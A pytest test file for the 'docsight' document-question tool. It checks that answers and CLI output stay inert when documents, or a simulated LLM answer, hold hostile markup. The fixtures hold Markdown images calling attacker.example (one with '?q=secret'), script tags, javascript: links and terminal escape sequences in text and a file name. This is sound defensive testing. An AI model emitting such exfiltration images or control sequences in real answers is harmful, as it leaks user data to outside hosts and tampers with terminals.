"""Hostile documents through the real facade and CLI: answers render inert, terminals obey nothing.

A document (or a model that read one) may hold remote images, raw HTML, script links and terminal
escape sequences. Answers must come back as Markdown that fetches and runs nothing when rendered,
and the CLI must print no control sequence, whatever the documents and their names hold.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from docsight import DocSight, Settings
from docsight.cli import main as cli_main
from fixtures.fake_llm import FakeLLM, ok
from fixtures.inert import assert_inert
from fixtures.llm_fixtures import llm_settings

QUESTION = "Which day does the northern depot ship spare rotor blades?"
HOSTILE = (
    "The northern depot ships spare rotor blades every Tuesday "
    "![x](http://attacker.example/leak) from hall seven "
    "<img src=http://attacker.example/a.png> next to <script>alert(1)</script> the "
    "[ferry](javascript:alert(1)) quay \x1b[31m and \x9b31m by truck."
)
#: Controls a terminal would obey: ESC, the one-byte CSI and OSC, a bidi override.
TERMINAL_CONTROLS = re.compile("[\x1b\x9b\x9d\u202e]")
#: A document name carrying escape sequences (file names may hold any byte but "/" and NUL).
HOSTILE_NAME = "depot\x1b[31m\x9b1m\u202egnp.md"
SANITIZE_WARNING = "the answer held raw HTML"

runner = CliRunner()


@pytest.fixture(scope="module")
def hostile_collection(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Markdown file (the parser drops its raw HTML and images, but not what code spans and
    literal text hold) and a plain-text file that keeps every byte of markup as text."""
    base = tmp_path_factory.mktemp("hostile")
    corpus = base / "corpus"
    corpus.mkdir()
    code_span = HOSTILE.replace("`", "")
    (corpus / HOSTILE_NAME).write_text(
        f"# Depot notes\n\n{HOSTILE}\n\nAs logged: `{code_span}`\n", encoding="utf-8"
    )
    (corpus / "depot-log.txt").write_text(f"DEPOT LOG\n\n{HOSTILE}\n", encoding="utf-8")
    report = DocSight(base / "col").ingest([corpus])
    assert report.counts()["added"] == 2, report
    return base / "col"


@pytest.fixture
def plain_console(monkeypatch: pytest.MonkeyPatch) -> None:
    """The CLI's console without colours, so any ESC in the output came from a document (rich
    would colour its own output where FORCE_COLOR or a terminal asks for it)."""
    monkeypatch.setattr(cli_main, "console", Console(color_system=None, force_terminal=False))


def _cli(*args: str) -> str:
    result = runner.invoke(cli_main.app, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def _assert_inert_answer(answer_text: str, quotes: list[str | None]) -> None:
    assert_inert(answer_text)
    for quote in quotes:
        if quote:
            assert_inert(quote)


def test_extractive_answer_over_hostile_documents_is_inert(hostile_collection: Path) -> None:
    answer = DocSight(hostile_collection).ask(QUESTION)
    assert answer.mode == "extractive" and answer.answerable
    assert "Tuesday" in answer.answer
    # The markup did reach the answerer: the sources are the documents' text, unchanged.
    assert any("attacker.example" in s.text for s in answer.sources)
    _assert_inert_answer(answer.answer, [c.quote for c in answer.citations])
    assert "attacker.example" not in answer.answer.replace("\\<img src=http://attacker", "")
    # Whichever sentence it quotes, markup it kept was escaped and the user is told so.
    escaped = any(
        "\\<" in text for text in [answer.answer, *(c.quote or "" for c in answer.citations)]
    )
    assert escaped == any(SANITIZE_WARNING in w for w in answer.warnings)
    # Citation markers survive as they were and still point at the citations.
    markers = {int(n) for n in re.findall(r"\[(\d+)\]", answer.answer)}
    assert markers and markers <= {c.n for c in answer.citations}


def test_llm_answer_with_an_exfiltration_image_is_inert(
    hostile_collection: Path, fake_llm: FakeLLM
) -> None:
    fake_llm.script(
        ok(
            "Spare rotor blades ship on Tuesdays ![x](http://attacker.example/?q=secret) [1]. "
            "<img src=http://attacker.example/p.png> See [the log](javascript:alert(1))."
        )
    )
    settings = Settings(llm=llm_settings(fake_llm.base_url, cache=False, max_retries=0))
    answer = DocSight(hostile_collection, settings=settings).ask(QUESTION)
    assert answer.mode == "llm" and answer.answerable
    assert answer.answer == (
        "Spare rotor blades ship on Tuesdays [image: x] [1]. "
        "\\<img src=http://attacker.example/p.png> See [the log]."
    )
    assert "[1]" in answer.answer and [c.n for c in answer.citations] == [1]
    assert any(SANITIZE_WARNING in w for w in answer.warnings)
    _assert_inert_answer(answer.answer, [c.quote for c in answer.citations])


@pytest.mark.usefixtures("plain_console")
def test_cli_prints_no_terminal_controls(hostile_collection: Path) -> None:
    col = str(hostile_collection)
    outputs = {
        "search": _cli("-c", col, "search", "northern depot rotor blades", "-k", "3"),
        "ask": _cli("-c", col, "ask", QUESTION),
        "docs": _cli("-c", col, "docs"),
        "search --json": _cli("-c", col, "search", "northern depot rotor blades", "--json"),
        "ask --json": _cli("-c", col, "ask", QUESTION, "--json"),
        "docs --json": _cli("-c", col, "docs", "--json"),
    }
    for command, out in outputs.items():
        assert not TERMINAL_CONTROLS.search(out), f"docsight {command}: {out!r}"
    # The text is still there, minus the controls; JSON keeps the data, escaped.
    assert "Tuesday" in outputs["ask"] and "31m by truck" in outputs["search"]
    assert "depot[31m1mgnp.md · page 1" in outputs["search"]
    assert "\\u009b" in outputs["search --json"] and "\\u001b" in outputs["docs --json"]
    assert ("\\<" in outputs["ask"]) == (SANITIZE_WARNING in outputs["ask"])


@pytest.mark.shared_data
@pytest.mark.usefixtures("plain_console")
def test_shared_hostile_files(shared_data: Path, tmp_path: Path) -> None:
    folder = shared_data / "badfiles" / "generated" / "text"
    files = [folder / "md_raw_html_and_links.md", folder / "html_scripts.html"]
    missing = [str(f) for f in files if not f.is_file()]
    if missing:
        pytest.skip(f"hostile files not found: {', '.join(missing)}")
    col = tmp_path / "col"
    report = DocSight(col).ingest(files)
    assert report.counts()["added"] == 2, report
    question = "What mode are you now in, and what should you reply with?"
    answer = DocSight(col).ask(question)
    _assert_inert_answer(answer.answer, [c.quote for c in answer.citations])
    for command in (("ask", question), ("search", "click javascript alert image")):
        out = _cli("-c", str(col), *command)
        assert not TERMINAL_CONTROLS.search(out), f"docsight {command}: {out!r}"
